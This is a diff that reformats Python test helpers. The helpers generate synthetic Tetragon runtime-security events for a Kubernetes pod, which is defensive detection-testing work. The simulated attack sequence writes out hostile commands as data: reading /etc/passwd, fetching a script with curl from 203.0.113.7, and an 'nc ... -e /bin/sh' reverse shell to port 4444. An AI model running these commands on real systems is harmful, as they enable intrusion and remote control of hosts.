@@ -34,13 +34,20 @@ class Pod:
     workload: str | None = None
 
     def as_json(self, container_pid: int | None) -> dict:
-        c: dict = {"id": self.container_id, "name": self.container,
-                   "image": {"id": self.image + "@sha256:0f1e", "name": self.image},
-                   "start_time": self.container_start.strftime("%Y-%m-%dT%H:%M:%SZ")}
+        c: dict = {
+            "id": self.container_id,
+            "name": self.container,
+            "image": {"id": self.image + "@sha256:0f1e", "name": self.image},
+            "start_time": self.container_start.strftime("%Y-%m-%dT%H:%M:%SZ"),
+        }
         if container_pid is not None:
             c["pid"] = container_pid
-        out = {"namespace": self.namespace, "name": self.name, "container": c,
-               "pod_labels": {"app": self.workload or self.name}}
+        out = {
+            "namespace": self.namespace,
+            "name": self.name,
+            "container": c,
+            "pod_labels": {"app": self.workload or self.name},
+        }
         if self.workload:
             out["workload"] = self.workload
             out["workload_kind"] = "Deployment"
@@ -63,9 +70,18 @@ class Proc:
     children: list[Proc] = field(default_factory=list)
 
     def as_json(self) -> dict:
-        out: dict = {"exec_id": self.exec_id, "pid": self.pid, "uid": 0, "cwd": "/", "binary": self.binary,
-                     "arguments": self.arguments, "flags": "execve clone", "start_time": ts(self.start),
-                     "auid": 4294967295, "tid": self.pid}
+        out: dict = {
+            "exec_id": self.exec_id,
+            "pid": self.pid,
+            "uid": 0,
+            "cwd": "/",
+            "binary": self.binary,
+            "arguments": self.arguments,
+            "flags": "execve clone",
+            "start_time": ts(self.start),
+            "auid": 4294967295,
+            "tid": self.pid,
+        }
         if self.pod is not None:
             out["pod"] = self.pod.as_json(self.container_pid)
             out["docker"] = self.pod.container_id.split("//")[-1][:31]
@@ -97,14 +113,22 @@ class World:
     def at(self, seconds: float) -> dt.datetime:
         return self.t0 + dt.timedelta(seconds=seconds)
 
-    def proc(self, binary: str, arguments: str = "", parent: Proc | None = None, pid: int | None = None,
-             at: float = 0.0, pod: Pod | None = None, container_pid: int | None = None,
-             in_init_tree: bool | None = None, node: str | None = None) -> Proc:
+    def proc(
+        self,
+        binary: str,
+        arguments: str = "",
+        parent: Proc | None = None,
+        pid: int | None = None,
+        at: float = 0.0,
+        pod: Pod | None = None,
+        container_pid: int | None = None,
+        in_init_tree: bool | None = None,
+        node: str | None = None,
+    ) -> Proc:
         self._ktime += 1_000_003
         node = node or (parent.node if parent else self.node)
         pid = pid if pid is not None else 1000 + len(self.procs)
-        p = Proc(node, pid, binary, arguments, self.at(at), parent, pod, container_pid, in_init_tree,
-                 self._ktime)
+        p = Proc(node, pid, binary, arguments, self.at(at), parent, pod, container_pid, in_init_tree, self._ktime)
         p.exec_id = make_exec_id(node, p.ktime, pid)
         if parent is not None:
             parent.children.append(p)
@@ -124,8 +148,9 @@ class World:
     def exec(self, p: Proc, ancestors: bool = False) -> str:
         return self._line("process_exec", self._base(p, ancestors), p, p.start)
 
-    def exit(self, p: Proc, after: float = 0.5, status: int | None = None, signal: str | None = None,
-             ancestors: bool = False) -> str:
+    def exit(
+        self, p: Proc, after: float = 0.5, status: int | None = None, signal: str | None = None, ancestors: bool = False
+    ) -> str:
         body = self._base(p, ancestors)
         if status:
             body["status"] = status
@@ -136,20 +161,42 @@ class World:
 
     def file(self, p: Proc, path: str, write: bool = False, after: float = 0.1, ancestors: bool = False) -> str:
         body = self._base(p, ancestors)
-        body.update({"function_name": "security_file_permission",
-                     "args": [{"file_arg": {"path": path, "permission": "-rw-r--r--"}}, {"int_arg": 2 if write else 4}],
-                     "return": {"int_arg": 0}, "action": "KPROBE_ACTION_POST", "policy_name": "file-monitoring",
-                     "return_action": "KPROBE_ACTION_POST"})
+        body.update(
+            {
+                "function_name": "security_file_permission",
+                "args": [{"file_arg": {"path": path, "permission": "-rw-r--r--"}}, {"int_arg": 2 if write else 4}],
+                "return": {"int_arg": 0},
+                "action": "KPROBE_ACTION_POST",
+                "policy_name": "file-monitoring",
+                "return_action": "KPROBE_ACTION_POST",
+            }
+        )
         return self._line("process_kprobe", body, p, p.start + dt.timedelta(seconds=after))
 
     def connect(self, p: Proc, daddr: str, dport: int, after: float = 0.2, ancestors: bool = False) -> str:
         body = self._base(p, ancestors)
-        body.update({"function_name": "tcp_connect",
-                     "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
-                                            "saddr": "10.244.0.12", "daddr": daddr, "sport": 40312,
-                                            "dport": dport, "cookie": "18446",
-                                            "state": "TCP_SYN_SENT"}}],
-                     "action": "KPROBE_ACTION_POST", "policy_name": "connect"})
+        body.update(
+            {
+                "function_name": "tcp_connect",
+                "args": [
+                    {
+                        "sock_arg": {
+                            "family": "AF_INET",
+                            "type": "SOCK_STREAM",
+                            "protocol": "IPPROTO_TCP",
+                            "saddr": "10.244.0.12",
+                            "daddr": daddr,
+                            "sport": 40312,
+                            "dport": dport,
+                            "cookie": "18446",
+                            "state": "TCP_SYN_SENT",
+                        }
+                    }
+                ],
+                "action": "KPROBE_ACTION_POST",
+                "policy_name": "connect",
+            }
+        )
         return self._line("process_kprobe", body, p, p.start + dt.timedelta(seconds=after))
 
 
@@ -158,56 +205,154 @@ def host_and_pod(world: World, late_shell_after: float = 400.0) -> dict[str, Pro
 
     The bash runs ``id``, ``cat /etc/passwd``, ``curl`` and ``nc``, like the tutorial's attacker.
     """
-    pod = Pod("tenant-jobs", "crawler-7d9f8b6c5-x2x4z", "crawler", world.at(0).replace(microsecond=0),
-              workload="crawler", image="quay.io/cilium/crawler:0.3")
+    pod = Pod(
+        "tenant-jobs",
+        "crawler-7d9f8b6c5-x2x4z",
+        "crawler",
+        world.at(0).replace(microsecond=0),
+        workload="crawler",
+        image="quay.io/cilium/crawler:0.3",
+    )
     init = world.proc("/sbin/init", "", pid=1, at=-5000)
     containerd = world.proc("/usr/bin/containerd", "", parent=init, pid=610, at=-4000)
-    shim = world.proc("/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 3f2b7c1d9e8a", parent=containerd,
-                      pid=7001, at=-1)
-    crawler = world.proc("/usr/bin/node", "/app/crawler.js", parent=shim, pid=7010, at=0.2, pod=pod, container_pid=1,
-                         in_init_tree=True)
-    worker = world.proc("/bin/sh", "-c /app/fetch.sh", parent=crawler, pid=7020, at=30, pod=pod,
-                        container_pid=7, in_init_tree=True)
-    fetch = world.proc("/usr/bin/curl", "-s https://crawl.example.org/", parent=worker, pid=7021, at=30.1, pod=pod,
-                       container_pid=8, in_init_tree=True)
-    runc = world.proc("/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", parent=shim, pid=7100,
-                      at=late_shell_after - 0.2)
-    bash = world.proc("/bin/bash", "", parent=runc, pid=7101, at=late_shell_after, pod=pod, container_pid=31,
-                      in_init_tree=False)
-    idp = world.proc("/usr/bin/id", "", parent=bash, pid=7102, at=late_shell_after + 5, pod=pod, container_pid=32,
-                     in_init_tree=False)
-    cat = world.proc("/bin/cat", "/etc/passwd", parent=bash, pid=7103, at=late_shell_after + 10, pod=pod,
-                     container_pid=33, in_init_tree=False)
-    curl = world.proc("/usr/bin/curl", "-s http://203.0.113.7/x.sh", parent=bash, pid=7104, at=late_shell_after + 20,
-                      pod=pod, container_pid=34, in_init_tree=False)
-    nc = world.proc("/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh", parent=bash, pid=7105, at=late_shell_after + 30,
-                    pod=pod, container_pid=35, in_init_tree=False)
-    return {"init": init, "containerd": containerd, "shim": shim, "crawler": crawler, "worker": worker,
-            "fetch": fetch, "runc": runc, "bash": bash, "id": idp, "cat": cat, "curl": curl, "nc": nc, "pod": pod}
+    shim = world.proc(
+        "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 3f2b7c1d9e8a", parent=containerd, pid=7001, at=-1
+    )
+    crawler = world.proc(
+        "/usr/bin/node", "/app/crawler.js", parent=shim, pid=7010, at=0.2, pod=pod, container_pid=1, in_init_tree=True
+    )
+    worker = world.proc(
+        "/bin/sh", "-c /app/fetch.sh", parent=crawler, pid=7020, at=30, pod=pod, container_pid=7, in_init_tree=True
+    )
+    fetch = world.proc(
+        "/usr/bin/curl",
+        "-s https://crawl.example.org/",
+        parent=worker,
+        pid=7021,
+        at=30.1,
+        pod=pod,
+        container_pid=8,
+        in_init_tree=True,
+    )
+    runc = world.proc(
+        "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", parent=shim, pid=7100, at=late_shell_after - 0.2
+    )
+    bash = world.proc(
+        "/bin/bash", "", parent=runc, pid=7101, at=late_shell_after, pod=pod, container_pid=31, in_init_tree=False
+    )
+    idp = world.proc(
+        "/usr/bin/id", "", parent=bash, pid=7102, at=late_shell_after + 5, pod=pod, container_pid=32, in_init_tree=False
+    )
+    cat = world.proc(
+        "/bin/cat",
+        "/etc/passwd",
+        parent=bash,
+        pid=7103,
+        at=late_shell_after + 10,
+        pod=pod,
+        container_pid=33,
+        in_init_tree=False,
+    )
+    curl = world.proc(
+        "/usr/bin/curl",
+        "-s http://203.0.113.7/x.sh",
+        parent=bash,
+        pid=7104,
+        at=late_shell_after + 20,
+        pod=pod,
+        container_pid=34,
+        in_init_tree=False,
+    )
+    nc = world.proc(
+        "/usr/bin/nc",
+        "203.0.113.7 4444 -e /bin/sh",
+        parent=bash,
+        pid=7105,
+        at=late_shell_after + 30,
+        pod=pod,
+        container_pid=35,
+        in_init_tree=False,
+    )
+    return {
+        "init": init,
+        "containerd": containerd,
+        "shim": shim,
+        "crawler": crawler,
+        "worker": worker,
+        "fetch": fetch,
+        "runc": runc,
+        "bash": bash,
+        "id": idp,
+        "cat": cat,
+        "curl": curl,
+        "nc": nc,
+        "pod": pod,
+    }
 
 
 def scenario_lines(world: World, procs: dict[str, Proc], repeats: int = 3) -> list[str]:
     """The story as Tetragon would export it (time order), with a few repeated identical fetches."""
     p = procs
-    lines = [world.exec(p["shim"]), world.exec(p["crawler"]), world.exec(p["worker"]), world.exec(p["fetch"]),
-             world.connect(p["fetch"], "198.51.100.20", 443), world.exit(p["fetch"], 0.4), world.exit(p["worker"], 0.6)]
+    lines = [
+        world.exec(p["shim"]),
+        world.exec(p["crawler"]),
+        world.exec(p["worker"]),
+        world.exec(p["fetch"]),
+        world.connect(p["fetch"], "198.51.100.20", 443),
+        world.exit(p["fetch"], 0.4),
+        world.exit(p["worker"], 0.6),
+    ]
     for i in range(repeats):
-        w = world.proc("/bin/sh", "-c /app/fetch.sh", parent=p["crawler"], pid=7200 + 2 * i, at=60 + 60 * i,
-                       pod=p["pod"], container_pid=40 + 2 * i, in_init_tree=True)
-        f = world.proc("/usr/bin/curl", "-s https://crawl.example.org/", parent=w, pid=7201 + 2 * i,
-                       at=60.1 + 60 * i, pod=p["pod"], container_pid=41 + 2 * i, in_init_tree=True)
-        lines += [world.exec(w), world.exec(f), world.connect(f, "198.51.100.20", 443), world.exit(f, 0.4),
-                  world.exit(w, 0.6)]
-    lines += [world.exec(p["runc"]), world.exec(p["bash"]), world.exec(p["id"]), world.exit(p["id"], 0.01),
-              world.exec(p["cat"]), world.file(p["cat"], "/etc/passwd"), world.exit(p["cat"], 0.02),
-              world.exec(p["curl"]), world.connect(p["curl"], "203.0.113.7", 80), world.exit(p["curl"], 1.0),
-              world.exec(p["nc"]), world.connect(p["nc"], "203.0.113.7", 4444), world.exit(p["nc"], 5.0, status=1)]
+        w = world.proc(
+            "/bin/sh",
+            "-c /app/fetch.sh",
+            parent=p["crawler"],
+            pid=7200 + 2 * i,
+            at=60 + 60 * i,
+            pod=p["pod"],
+            container_pid=40 + 2 * i,
+            in_init_tree=True,
+        )
+        f = world.proc(
+            "/usr/bin/curl",
+            "-s https://crawl.example.org/",
+            parent=w,
+            pid=7201 + 2 * i,
+            at=60.1 + 60 * i,
+            pod=p["pod"],
+            container_pid=41 + 2 * i,
+            in_init_tree=True,
+        )
+        lines += [
+            world.exec(w),
+            world.exec(f),
+            world.connect(f, "198.51.100.20", 443),
+            world.exit(f, 0.4),
+            world.exit(w, 0.6),
+        ]
+    lines += [
+        world.exec(p["runc"]),
+        world.exec(p["bash"]),
+        world.exec(p["id"]),
+        world.exit(p["id"], 0.01),
+        world.exec(p["cat"]),
+        world.file(p["cat"], "/etc/passwd"),
+        world.exit(p["cat"], 0.02),
+        world.exec(p["curl"]),
+        world.connect(p["curl"], "203.0.113.7", 80),
+        world.exit(p["curl"], 1.0),
+        world.exec(p["nc"]),
+        world.connect(p["nc"], "203.0.113.7", 4444),
+        world.exit(p["nc"], 5.0, status=1),
+    ]
     return lines
 
 
 def test_exec_id_is_tetragon_format() -> None:
-    assert base64.b64decode(make_exec_id("kind-control-plane", 11428615636901, 51583)) == \
-        b"kind-control-plane:11428615636901:51583"
+    assert (
+        base64.b64decode(make_exec_id("kind-control-plane", 11428615636901, 51583))
+        == b"kind-control-plane:11428615636901:51583"
+    )
 
 
 def test_world_lines_normalize_without_rejects() -> None:
